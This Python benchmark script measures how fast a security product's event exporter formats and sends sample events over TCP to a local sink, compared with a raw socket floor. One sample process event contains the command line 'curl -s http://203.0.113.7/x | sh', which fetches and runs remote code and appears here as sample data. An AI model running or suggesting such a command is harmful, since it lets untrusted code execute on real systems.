"""Export: events/second formatted and sent per format, beside the raw socket send of the
same bytes, measured in the same run.

    python -m bench.export [--events 20000] [--batch 500]

For each format the exporter's own encoder (mapping, format, RFC 5424 envelope, framing) and
TCP transport send to a local sink that reads and discards; the floor sends the very bytes
it produced, already encoded, through a bare socket in the same batches.  Prints a table and
writes bench/results/export.json.
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import socket
import threading
import time
from pathlib import Path
from typing import Any

from garrison.common.catalogue import CATALOGUE, validate
from garrison.server.export.config import TargetOptions
from garrison.server.export.exporter import Target, encoder
from garrison.server.export.formats import FORMATS
from garrison.server.export.mapping import StationInfo, build
from garrison.server.export.transports import StreamTransport

RESULTS = Path(__file__).resolve().parent / "results"
STATION = StationInfo(
    uuid="4C4C4544-0033-4A10-8051-B5C04F4E4E31", hostname="ws-042", address="10.1.2.42"
)


def sample(count: int) -> list[tuple[str, int, dt.datetime, dict[str, Any]]]:
    now = dt.datetime.now(dt.UTC)
    kinds = [
        (
            "threat_detected",
            {
                "id": 42,
                "virus": "Eicar-Test-Signature",
                "action": "quarantine",
                "object": "/home/alice/Downloads/eicar.com",
                "time": now,
            },
        ),
        (
            "firewall_event",
            {
                "time": now,
                "event": "blocked",
                "protocol": "TCP",
                "source_address": "10.1.2.42",
                "source_port": 51515,
                "target_address": "203.0.113.7",
                "target_port": 445,
            },
        ),
        (
            "process_started",
            {
                "time": now,
                "unique_pid": "981",
                "file_path": "/usr/bin/curl",
                "command_line": "curl -s http://203.0.113.7/x | sh",
                "user": "alice",
                "sha256": "ab" * 32,
            },
        ),
        (
            "audit",
            {
                "time": now,
                "domain": "job",
                "action": "job.create",
                "target": "77",
                "user": "admin",
                "result": "Success",
            },
        ),
    ]
    out = []
    for i in range(count):
        name, data = kinds[i % len(kinds)]
        declared = CATALOGUE[name]
        out.append(
            (
                name,
                4 if name == "threat_detected" else 2,
                now,
                validate(
                    declared,
                    {
                        k: (v.isoformat() if isinstance(v, dt.datetime) else v)
                        for k, v in data.items()
                    },
                ),
            )
        )
    return out


class Sink:
    """A TCP receiver that reads everything and counts the bytes."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.port = self.server.getsockname()[1]
        self.received = 0
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                while chunk := conn.recv(1 << 20):
                    self.received += len(chunk)

    def close(self) -> None:
        self.server.close()


def target(fmt: str, port: int) -> Target:
    return Target(
        1,
        "bench",
        fmt,
        "tcp",
        "127.0.0.1",
        port,
        "",
        "",
        TargetOptions(aggregation_window_seconds=0, heartbeat_seconds=0),
        dt.datetime.now(dt.UTC),
    )


def measure(
    fmt: str, events: list[tuple[str, int, dt.datetime, dict[str, Any]]], batch: int, sink: Sink
) -> dict[str, Any]:
    encode = encoder(target(fmt, sink.port))
    transport = StreamTransport("127.0.0.1", sink.port)
    produced: list[bytes] = []
    started = time.perf_counter()
    for i in range(0, len(events), batch):
        messages = [
            encode(build(t, sev, when, data, STATION))
            for t, sev, when, data in events[i : i + batch]
        ]
        transport.send(messages)
        produced.extend(messages)
    garrison_seconds = time.perf_counter() - started
    transport.close()
    # The floor: the same bytes, already made, through a bare socket in the same batches.
    chunks = [b"".join(produced[i : i + batch]) for i in range(0, len(produced), batch)]
    raw = socket.create_connection(("127.0.0.1", sink.port))
    started = time.perf_counter()
    for chunk in chunks:
        raw.sendall(chunk)
    floor_seconds = time.perf_counter() - started
    raw.close()
    n = len(events)
    return {
        "format": fmt,
        "events": n,
        "bytes": sum(len(m) for m in produced),
        "floor_events_per_second": round(n / floor_seconds, 1),
        "garrison_events_per_second": round(n / garrison_seconds, 1),
        "ratio": round(floor_seconds / garrison_seconds, 4),
    }


def run(count: int, batch: int) -> dict[str, Any]:
    events = sample(count)
    sink = Sink()
    try:
        rows = [measure(fmt, events, batch, sink) for fmt in FORMATS]
    finally:
        sink.close()
    return {
        "scenario": "export",
        "transport": "tcp",
        "batch": batch,
        "formats": rows,
        "date": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description="export formatting + send rate vs socket floor")
    parser.add_argument("--events", type=int, default=20000)
    parser.add_argument("--batch", type=int, default=500)
    parser.add_argument("--out", type=Path, default=RESULTS / "export.json")
    args = parser.parse_args()
    result = run(args.events, args.batch)
    print(f"{'format':<12}{'events':>8}{'floor ev/s':>14}{'garrison ev/s':>16}{'ratio':>8}")
    for row in result["formats"]:
        print(
            f"{row['format']:<12}{row['events']:>8}{row['floor_events_per_second']:>14}"
            f"{row['garrison_events_per_second']:>16}{row['ratio']:>8}"
        )
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(result, indent=2) + "\n")


if __name__ == "__main__":
    main()
